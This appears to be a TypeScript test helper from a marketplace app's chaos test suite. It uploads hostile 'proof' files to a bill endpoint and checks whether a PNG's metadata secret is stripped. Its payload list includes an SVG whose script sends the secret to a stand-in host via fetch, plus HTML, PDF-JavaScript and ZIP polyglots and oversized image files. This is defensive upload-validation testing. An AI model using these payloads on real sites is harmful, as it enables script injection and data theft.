import { crc32, deflateSync } from 'node:zlib'
import { endpoints } from '@dibs/contract'
import type { AccountId, SessionId } from '@dibs/core'
import type { Seller } from '../../../chaos/world/sellers.ts'

/** What came of pictures that are none, or more than one. */
export type Pictures = {
  /** How each hostile one was answered. */
  hostile: number[]
  /** A picture with the secret written into it, as the seller has it then, as Latin-1. */
  kept: string
}

type Ask = (path: string, body: Uint8Array) => Promise<{ status: number }>
type OrderRef = { sessionId: SessionId; customerAccountId: AccountId }

/** Sends what is no picture, then one that says more than its pixels. */
export async function sendPictures(
  ask: Ask,
  { api }: Seller,
  order: OrderRef,
  { token, secret }: { token: string; secret: string },
): Promise<Pictures> {
  const path = `/api/bills/${token}/proofs`
  const hostile: number[] = []
  for (const bytes of hostileOnes(secret)) hostile.push((await ask(path, bytes)).status)
  await ask(path, png(secret))
  const { data } = await api(endpoints.proofs.listOfOrder, { params: order })
  const proofId = data.proofs[0]?.id
  if (proofId === undefined) return { hostile, kept: '' }
  const picture = (await api(endpoints.proofs.get, { params: { ...order, proofId } })).data
  return { hostile, kept: Buffer.from(await picture.arrayBuffer()).toString('latin1') }
}

const hostileOnes = (secret: string): Uint8Array[] =>
  [
    `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//x.test/${secret}")</script></svg>`,
    `\xff\xd8\xff\xe0<!doctype html><script>alert(1)</script>`,
    `%PDF-1.7\n1 0 obj <</JS (app.alert(1))>>`,
    `GIF89a\x40\x9c\x40\x9c\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x40\x9c\x40\x9c\0\x02\x02L\x01\0;`,
    `${png(secret).toString('latin1')}PK\x05\x06${'\0'.repeat(18)}`,
    `\x89PNG\r\n\x1a\n${'\xff'.repeat(100_000)}`,
  ].map((text) => Buffer.from(text, 'latin1'))

/** Four pixels, and a text. */
function png(text: string): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const [body, around] = [Buffer.concat([Buffer.from(type), data]), Buffer.alloc(8)]
    around.writeUInt32BE(data.length)
    around.writeUInt32BE(crc32(body), 4)
    return Buffer.concat([around.subarray(0, 4), body, around.subarray(4)])
  }
  const head = Buffer.from([0, 0, 0, 2, 0, 0, 0, 2, 8, 0, 0, 0, 0])
  const pixels = deflateSync(Buffer.from([0, 1, 200, 0, 90, 255]))
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', head),
    chunk('tEXt', Buffer.from(`Comment\0${text}`)),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ])
}
